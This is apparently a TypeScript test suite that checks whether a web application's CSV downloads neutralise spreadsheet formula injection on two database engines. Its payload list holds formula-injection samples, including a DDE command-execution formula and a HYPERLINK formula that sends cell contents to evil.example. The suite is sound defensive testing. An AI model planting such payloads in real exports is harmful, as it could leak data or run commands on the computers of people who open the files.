/**
 * Security suite (issue 13): no CSV download turns text someone typed into a spreadsheet formula, on both engines.
 * Every CSV route is listed in test/support/csv-exports.ts with who writes its free text and who downloads it. For each,
 * the test plants formula payloads in every free-text field, downloads the file as the reader, reads it strictly
 * (RFC 4180 §2, test/support/csv.ts) and checks:
 *  - structure: every record has as many fields as the header, each planted row comes back whole and once, and a cell
 *    holding a comma, semicolon, tab, quote or line break is quoted, so it never starts a new cell or record in a
 *    spreadsheet that splits on ";" or tab either (RFC 4180 §2.5–2.7);
 *  - neutralising as OWASP "CSV Injection" says: a cell starting with = + - @, tab (0x09) or carriage return (0x0D)
 *    comes out prefixed with a single quote and enclosed in double quotes, inner quotes doubled, and no cell of the
 *    file starts with one of those characters (https://owasp.org/www-community/attacks/CSV_Injection);
 *  - numbers the export promises as numbers stay plain, unquoted numbers.
 * The guard below keeps "every" true: a route answering CSV, or a source file sending CSV, that is not in the list
 * fails the test, and each listed source must build its CSV with the one helper, csvDocument (src/http/csv.ts).
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type Browser, type TestApp } from '../support/app.ts';
import { parseCsv, type CsvField } from '../support/csv.ts';
import { CSV_EXPORTS, CSV_MENTIONS_NOT_EXPORTS, type CsvExport, type Planted } from '../support/csv-exports.ts';
import { DIALECTS } from '../support/dialects.ts';
import { inviteAndJoin, ownerWithCompany } from '../support/flows.ts';

/** Cells a spreadsheet may read as a formula (OWASP "CSV Injection"), and text that tries to break the structure. */
const PAYLOADS = [
  '=1+1',
  '+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  'said "hi", then\r\na new line',
  'a,=1+1',
  'a;=1+1',
  'a\t=1+1',
  'one line\n=1+1',
  '"=1+1',
  'Bakkerij Janssens, 12 medewerkers',
] as const;

const FORMULA_START = /^[=+\-@\t\r]/;
/**
 * Characters that must never be left outside quotes: RFC 4180's comma, quote, CR and LF, plus the separators a
 * spreadsheet may split on instead (";" in nl/fr/de Excel, tab in Excel's and LibreOffice's import dialogs), which would
 * otherwise start a new cell in the middle of the text, where a formula can begin (OWASP "CSV Injection").
 */
const SEPARATOR = /[",;\t\r\n]/;
/** What OWASP asks a cell to become: a leading single quote when it starts like a formula. */
const neutralised = (v: string) => (FORMULA_START.test(v) ? `'${v}` : v);

/** Everything wrong with one downloaded export, as readable lines (empty when all is well). */
function problemsOf(e: CsvExport, res: LightMyRequestResponse, planted: Planted): string[] {
  const problems: string[] = [];
  if (res.statusCode !== 200) return [`status ${res.statusCode}`];
  if (!/^text\/csv; charset=utf-8/.test(String(res.headers['content-type'])))
    problems.push(`content-type ${String(res.headers['content-type'])}`);
  if (!/^attachment; filename="[^"]+\.csv"$/.test(String(res.headers['content-disposition'])))
    problems.push(`content-disposition ${String(res.headers['content-disposition'])}`);
  if (!res.body.startsWith('\ufeff')) problems.push('no UTF-8 byte-order mark');
  let records: CsvField[][];
  try {
    records = parseCsv(res.body.replace(/^\ufeff/, ''));
  } catch (err) {
    return [...problems, (err as Error).message];
  }
  const [header = [], ...data] = records;
  records.forEach((r, i) => {
    if (r.length !== header.length) problems.push(`record ${i + 1} has ${r.length} fields, the header ${header.length}`);
    for (const f of r) {
      if (FORMULA_START.test(f.value)) problems.push(`record ${i + 1}: cell starts like a formula: ${JSON.stringify(f.value)}`);
      if (SEPARATOR.test(f.value) && !f.quoted)
        problems.push(`record ${i + 1}: cell with a separator, quote or line break is not quoted: ${JSON.stringify(f.value)}`);
    }
  });
  if (planted.dataRows !== undefined && data.length !== planted.dataRows)
    problems.push(`${data.length} data records, expected ${planted.dataRows}`);
  for (const row of planted.rows) {
    const cells = Object.entries(row).map(([c, v]) => [Number(c), v] as const);
    const found = data.filter((r) => cells.every(([c, v]) => r[c]?.value === neutralised(v)));
    if (found.length !== 1) {
      problems.push(`planted row ${JSON.stringify(row)} found ${found.length} times`);
      continue;
    }
    for (const [c, v] of cells)
      if (FORMULA_START.test(v) && !found[0]![c]!.quoted)
        problems.push(`column ${c}: ${JSON.stringify(neutralised(v))} is prefixed but not quoted`);
  }
  for (const c of e.numeric ?? [])
    for (const [i, r] of data.entries())
      if (r[c]!.quoted || !/^(0|[1-9][0-9]*)?$/.test(r[c]!.value))
        problems.push(`record ${i + 2}, column ${c}: not a plain number: ${JSON.stringify(r[c])}`);
  return problems;
}

describe.each(DIALECTS)('CSV exports on %s', (dialect) => {
  let t: TestApp;
  let companyId: string;
  let owner: Browser;
  let admin: Browser;
  let member: Browser;

  beforeAll(async () => {
    t = await createTestApp(dialect);
    ({ b: owner, companyId } = await ownerWithCompany(t, `csv-owner-${dialect}@example.be`));
    admin = await inviteAndJoin(t, owner, companyId, `csv-admin-${dialect}@example.be`, 'admin');
    member = await inviteAndJoin(t, owner, companyId, `csv-member-${dialect}@example.be`, 'member');
  }, 120_000);
  afterAll(async () => {
    await t?.close();
  });

  it.each(CSV_EXPORTS.map((e) => [e.route, e] as const))(
    '%s: planted formulas come out as quoted text, rows and columns intact',
    async (_route, e) => {
      const planted = await e.plant({ t, companyId, owner, admin, member }, PAYLOADS);
      // Every free-text column received every payload (as the application stores it).
      for (const c of e.freeText)
        expect(planted.rows.filter((r) => r[c] !== undefined).length, `column ${c}`).toBeGreaterThanOrEqual(PAYLOADS.length);
      const res = await planted.download();
      expect(problemsOf(e, res, planted)).toEqual([]);
    },
    120_000,
  );

  it('guard: every route that answers CSV (or another spreadsheet format, or a format chosen by a ".:" parameter) is in the list', () => {
    const looksLikeExport = /\.(?:csv|tsv|xlsx?|ods)$|\.:[A-Za-z]+$/;
    const routes = [...new Set(t.app.routeTable.filter((r) => r.method === 'GET' && looksLikeExport.test(r.url)).map((r) => r.url))].sort();
    expect(routes).toEqual(CSV_EXPORTS.map((e) => e.route).sort());
  });
});

describe('CSV exports: the guard over the source', () => {
  const root = path.resolve(import.meta.dirname, '../..');
  const sources = readdirSync(path.join(root, 'src'), { recursive: true, encoding: 'utf8' })
    .filter((f) => /\.tsx?$/.test(f) && !/\.test\.tsx?$/.test(f))
    .map((f) => `src/${f.split(path.sep).join('/')}`)
    .sort();
  const text = new Map(sources.map((f) => [f, readFileSync(path.join(root, f), 'utf8')]));
  const SPREADSHEET_TYPE = String.raw`(?:text/csv|text/tab-separated-values|application/vnd\.ms-excel|application/vnd\.openxmlformats-officedocument\.spreadsheetml|application/vnd\.oasis\.opendocument\.spreadsheet)`;
  /** A response that is a spreadsheet: its content type, a download name, or the CSV helper. */
  const SENDS_CSV = new RegExp(
    String.raw`['"]content-type['"]\s*,\s*[\`'"]${SPREADSHEET_TYPE}|\.type\(\s*[\`'"]${SPREADSHEET_TYPE}|filename=[^"'\`\s;]*\.(?:csv|tsv|xlsx?|ods)\b|\bcsv(?:Document|Cell)\(`,
    'i',
  );
  const listed = CSV_EXPORTS.map((e) => e.source).sort();

  it('the files that send CSV are exactly the listed ones', () => {
    const sending = sources.filter((f) => f !== 'src/http/csv.ts' && SENDS_CSV.test(text.get(f)!));
    expect(sending).toEqual([...new Set(listed)]);
  });

  it('every other mention of a spreadsheet type is explained', () => {
    const mentions = sources.filter(
      (f) => f !== 'src/http/csv.ts' && new RegExp(SPREADSHEET_TYPE, 'i').test(text.get(f)!) && !listed.includes(f),
    );
    expect(mentions).toEqual(Object.keys(CSV_MENTIONS_NOT_EXPORTS).sort());
  });

  it('each listed file builds its CSV with csvDocument from src/http/csv.ts, never by hand', () => {
    for (const f of listed) {
      const src = text.get(f)!;
      expect(src, f).toMatch(/import \{[^}]*\bcsvDocument\b[^}]*\} from '(?:\.\.\/)+csv\.ts'/);
      const sends = src.match(new RegExp(String.raw`text/csv`, 'g'))?.length ?? 0;
      const built = src.match(/\bcsvDocument\(/g)?.length ?? 0;
      expect(built, `${f}: one csvDocument per CSV response`).toBe(sends);
    }
  });
});
